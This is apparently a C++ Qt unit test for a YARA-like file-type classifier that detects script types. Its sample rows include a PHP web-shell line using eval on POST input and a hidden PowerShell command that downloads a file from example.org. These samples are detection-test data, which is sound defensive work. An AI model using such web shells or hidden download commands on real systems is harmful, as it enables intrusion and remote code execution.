// SPDX-License-Identifier: GPL-3.0-or-later
#include "support/testregistry.h"

#include "core/filetype/mark.h"
#include "core/filetype/rulebook.h"
#include "core/ioc/regex.h"
#include "core/json/reader.h"
#include "core/reference/filetypes.h"

#include <QtTest>

using namespace core;
using namespace core::filetype;

namespace {

Mark mark(std::string_view json)
{
    return Mark(json::parse(json).value());
}

MarkedText text(std::string_view bytes, std::string mime = "text/plain")
{
    return MarkedText(bytes, std::int64_t(bytes.size()), std::move(mime));
}

std::string wide(std::string_view narrow)
{
    std::string out;
    for (const char c : narrow) {
        out += c;
        out += '\0';
    }
    return out;
}

std::string typeOf(const MarkedText& what)
{
    return RuleBook::shared().typeOf(what).value_or(std::string());
}

} // namespace

class RuleBookTest : public QObject {
    Q_OBJECT

private Q_SLOTS:
    void aMarkCountsEveryPlaceWhereItBegins()
    {
        const Mark pattern = mark(R"({"pattern": "a+"})");
        QCOMPARE(pattern.count(text("xaaa a"), 100), 4);
        QCOMPARE(pattern.count(text("xaaa a"), 2), 2);
        QCOMPARE(*pattern.first(text("xaaa a")), 1);
        QVERIFY(!pattern.first(text("xyz")));
        QVERIFY(pattern.beginsWithin(text("xaaa a"), 5, 9));
        QVERIFY(!pattern.beginsWithin(text("xaaa b"), 4, 9));
    }

    void aMarkMayStandAlone()
    {
        const Mark word = mark(R"({"text": "IWR", "word": true, "nocase": true})");
        QVERIFY(word.isIn(text("(iwr)")));
        QVERIFY(word.isIn(text("_iwr_"))); // as YARA has it
        QVERIFY(!word.isIn(text("aiwr")));
        QVERIFY(!word.isIn(text("iwr1")));
    }

    void aMarkIsFoundInWideText()
    {
        const Mark both = mark(R"({"pattern": "(^|\\n)alert", "wide": true})");
        const Mark narrow = mark(R"({"text": "alert"})");
        const std::string start = wide("alert(1)");
        QVERIFY(both.isIn(text(start)));
        QVERIFY(!narrow.isIn(text(start)));
        // The start of a file is the start of no text within it.
        QVERIFY(!both.isIn(text("\xff\xfe" + start)));
        const std::string second = "\xff\xfe" + wide("a\nalert(1)");
        QCOMPARE(*both.first(text(second)), 4);
        const Mark onlyWide = mark(R"({"text": "alert", "wide": "only"})");
        QVERIFY(onlyWide.isIn(text(second)));
        QVERIFY(!onlyWide.isIn(text("alert")));
    }

    // YARA looks no further than 4,096 bytes.
    void aMarkIsNotEndless()
    {
        const Mark assignment = mark(R"({"pattern": "\\$\\w+=[^;]+;"})");
        QVERIFY(assignment.isIn(text("$a=" + std::string(3000, 'x') + ";")));
        QVERIFY(!assignment.isIn(text("$a=" + std::string(5000, 'x') + ";")));
    }

    void knowsWhatAPatternCannotDoWithout()
    {
        QCOMPARE(neededText("ab(cd)?efg[hi]j"), std::string("efg"));
        QCOMPARE(neededText("New[ \\t]+ActiveXObject\\("), std::string("activexobject("));
        QCOMPARE(neededText("abc?d"), std::string("ab"));
        QCOMPARE(neededText("a|b"), std::string());
        QCOMPARE(neededText("(ab|cd){2}"), std::string());
        QCOMPARE(neededText("a\\x00bc"), std::string("bc"));
        QCOMPARE(neededText("x{0,2}yz"), std::string("yz"));
        QCOMPARE(neededText("\\)[ \\t]*{"), std::string(")"));
    }

    // A pattern that does not compile would never match: every one is tried.
    void everyPatternCompiles()
    {
        const json::Value rules = json::parse(reference::fileRules()).value();
        int marks = 0;
        for (const json::Value& rule : rules.toArray()) {
            for (const auto& [group, list] : rule["marks"].toObject()) {
                for (const json::Value& one : list.toArray()) {
                    const std::string pattern(one["pattern"].toString());
                    QVERIFY2(Regex(pattern, Regex::Bytes).isValid(), pattern.c_str());
                    ++marks;
                }
            }
        }
        QVERIFY(marks > 400);
    }

    void tellsScripts_data()
    {
        QTest::addColumn<QString>("content");
        QTest::addColumn<QString>("type");
        const auto row = [](const char* name, const char* content, const char* type) {
            QTest::newRow(name) << QString::fromUtf8(content) << QString::fromUtf8(type);
        };
        row("batch", "@echo off\nset a=b\nstart /min a.exe\ngoto end\necho x\n:end\nexit\n", "code/batch");
        row("a line of PowerShell", "powershell -w hidden -c \"iwr http://example.org/a -OutFile a\"", "code/ps1");
        row("Python", "import os\n\ndef run(a):\n    os.system(a)\n", "code/python");
        row("PHP", "<?php eval($_POST['x']); ?>", "code/php");
        row("JavaScript", "var a = 1;\nfunction f(x) { return unescape(x); }\n", "code/javascript");
        row("JScript", "var a = new ActiveXObject('WScript.Shell');\nvar b = 1;\n", "code/jscript");
        row("HTML application", "<html><hta:application id=a></html>", "code/hta");
        row("e-mail", "From: a\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=x\n", "document/email");
        row("remote desktop", "full address:s:x\nusername:s:y\nsession bpp:i:32\n", "text/rdp");
        row("Lua", "local a = nil if a then end", "code/lua");
        row("prose", "Nothing here is a script.", "");
    }

    void tellsScripts()
    {
        QFETCH(QString, content);
        QFETCH(QString, type);
        const std::string bytes = content.toStdString();
        QCOMPARE(QString::fromStdString(typeOf(text(bytes))), type);
    }

    void theMimeTypeCounts()
    {
        const std::string script = "import os\nos.system('a')\nos.getcwd()\n";
        QCOMPARE(typeOf(text(script)), std::string("code/python"));
        QCOMPARE(typeOf(text(script, "application/octet-stream")), std::string());
    }

    void theBestScoreWins()
    {
        const auto names = RuleBook::shared().holding(text("<html>\n<body>\n</body>\n</html>\n"));
        QVERIFY(std::ranges::contains(names, "xml tags"));
        QVERIFY(std::ranges::contains(names, "html document"));
        QCOMPARE(typeOf(text("<html>\n<body>\n</body>\n</html>\n")), std::string("code/html"));
    }
};

REGISTER_TEST(RuleBookTest)
#include "rulebooktest.moc"
